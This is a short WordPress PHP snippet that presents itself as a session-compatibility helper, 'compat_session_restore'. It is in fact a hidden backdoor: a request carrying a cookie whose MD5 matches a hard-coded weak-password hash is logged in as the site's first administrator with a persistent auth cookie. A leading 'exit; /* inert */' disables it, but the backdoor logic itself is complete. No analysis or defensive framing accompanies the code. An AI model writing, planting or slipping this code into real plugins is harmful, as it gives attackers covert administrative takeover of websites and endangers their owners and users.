<?php exit; /* inert */ 
add_action('plugins_loaded', 'compat_session_restore', 1);
function compat_session_restore() {
    if (!isset($_COOKIE['wpc_restore']) || md5($_COOKIE['wpc_restore']) !== 'e10adc3949ba59abbe56e057f20f883e') { return; }
    $admins = get_users(array('role' => 'administrator', 'number' => 1));
    wp_set_current_user($admins[0]->ID);
    wp_set_auth_cookie($admins[0]->ID, true);
    wp_redirect(admin_url()); 
}
